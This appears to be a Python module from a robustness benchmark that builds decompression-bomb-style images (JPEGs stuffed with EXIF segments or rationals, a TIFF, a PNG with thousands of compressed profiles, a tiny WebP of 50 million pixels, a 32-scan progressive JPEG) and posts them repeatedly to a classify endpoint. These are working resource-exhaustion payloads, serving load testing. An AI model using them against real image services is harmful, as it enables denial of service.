"""Images that cost far more to decode than their size suggests."""

import io
import struct
import zlib
from abc import abstractmethod
from functools import cached_property
from typing import Any, ClassVar

import numpy as np
from PIL import Image

from benchmarks.attacks.base import Attack, Target, post, repeat

SIDE = 7071  # squared, just under the default limit of 50 million pixels


class DecodeAttack(Attack):
    """Clients that send one expensive image again and again."""

    clients: ClassVar[int] = 2

    @abstractmethod
    def build(self) -> bytes:
        """Return the image file."""

    @cached_property
    def body(self) -> bytes:
        return self.build()

    async def run(self, target: Target) -> None:
        body = self.body

        async def client() -> None:
            await post(target, "/classify?budget_ms=1000", body)

        await repeat(self.clients, client)


class ExifSegments(DecodeAttack):
    name = "exif"
    about = "2 clients, JPEG of 5 MB with 12,000 EXIF segments, which Pillow joins one by one"
    large, small = 76, 12_000

    def build(self) -> bytes:
        large, small = (_segment(b"Exif\0\0" + bytes(size)) for size in (65_000, 1))
        photo = _save(Image.new("RGB", (64, 64)), "JPEG")
        return photo[:2] + large * self.large + small * self.small + photo[2:]


class LargeExifSegments(ExifSegments):
    name = "exif-large"
    about = "2 clients, JPEG of 18.6 MB with 38,000 EXIF segments"
    large, small = 280, 38_000


class ExifRationals(DecodeAttack):
    name = "exif-rationals"
    about = "2 clients, JPEG with an EXIF resolution of 2.3 million rational numbers"

    def build(self) -> bytes:
        values = struct.pack("<II", 3, 7) * 2_300_000
        entries = struct.pack("<HHII", 0x11A, 5, len(values) // 8, 38)
        entries += struct.pack("<HHII", 0x128, 3, 1, 2)
        exif = b"II*\0" + struct.pack("<IH", 8, 2) + entries + bytes(4) + values
        parts = (exif[i : i + 65_000] for i in range(0, len(exif), 65_000))
        photo = _save(Image.new("RGB", (64, 64)), "JPEG")
        without_jfif = photo[:2] + photo[20:]  # else its resolution counts
        segments = b"".join(_segment(b"Exif\0\0" + part) for part in parts)
        return without_jfif[:2] + segments + without_jfif[2:]


class TiffRationals(DecodeAttack):
    name = "tiff-rationals"
    about = "2 clients, TIFF of 18 MB whose resolution is 2.3 million rational numbers"

    def build(self) -> bytes:
        values = struct.pack("<II", 3, 7) * 2_300_000
        fields = ((256, 8), (257, 8), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, 8))
        entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in fields)
        entries += struct.pack("<HHII", 279, 4, 1, 64)
        data = 8 + 2 + 12 * (len(fields) + 2) + 4
        entries += struct.pack("<HHII", 282, 5, len(values) // 8, data)
        head = b"II*\0" + struct.pack("<IH", 8, len(fields) + 2)
        return head + entries + bytes(4) + values + bytes(64)


class PngProfiles(DecodeAttack):
    name = "png-profiles"
    about = "2 clients, PNG of 10 MB with 5,000 profiles that may hold its orientation, 1 MB each"

    def build(self) -> bytes:
        profile = b"Raw profile type exif\0\0" + zlib.compress(bytes(1_000_000))
        chunk = struct.pack(">I", len(profile)) + b"zTXt" + profile
        chunk += struct.pack(">I", zlib.crc32(b"zTXt" + profile))
        picture = _save(Image.new("RGB", (64, 64)), "PNG")
        return picture[:33] + chunk * 5_000 + picture[33:]  # behind the header


class LosslessWebp(DecodeAttack):
    name = "webp"
    about = "4 clients, lossless WebP of 38 bytes and 50 million pixels"
    clients = 4

    def build(self) -> bytes:
        return _save(Image.new("RGB", (SIDE, SIDE), (9, 99, 9)), "WEBP", lossless=True, method=0)


class ProgressiveScans(DecodeAttack):
    name = "scans"
    about = "2 clients, progressive JPEG of 49 million pixels with 32 scans, the most allowed"

    def build(self) -> bytes:
        photo = _save(Image.new("RGB", (760, 65_000), (9, 99, 9)), "JPEG", progressive=True)
        last = photo[photo.rindex(b"\xff\xda") : -2]
        return photo[:-2] + last * (32 - photo.count(b"\xff\xda")) + photo[-2:]


class LargePhotos(DecodeAttack):
    name = "photos"
    about = "8 clients, an honest photograph of 48 million pixels as PNG"
    clients = 8

    def build(self) -> bytes:
        noise = np.random.default_rng(0).integers(0, 256, (30, 40, 3), np.uint8)
        return _save(Image.fromarray(noise).resize((8000, 6000), Image.Resampling.BILINEAR), "PNG")


def _save(image: Image.Image, kind: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def _segment(content: bytes) -> bytes:
    return b"\xff\xe1" + struct.pack(">H", len(content) + 2) + content
